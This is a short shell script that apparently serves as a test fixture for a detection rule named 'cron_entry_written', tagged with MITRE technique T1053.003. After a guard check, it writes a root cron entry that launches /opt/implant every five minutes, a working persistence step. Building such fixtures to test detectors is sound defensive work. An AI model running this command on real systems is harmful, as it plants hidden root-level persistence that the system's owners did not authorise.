#!/bin/sh
# technique: T1053.003 Scheduled Task/Job: Cron
# rule: cron_entry_written
# Has itself started by cron every five minutes.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
printf '*/5 * * * * root /opt/implant\n' > /etc/cron.d/update
exit 0
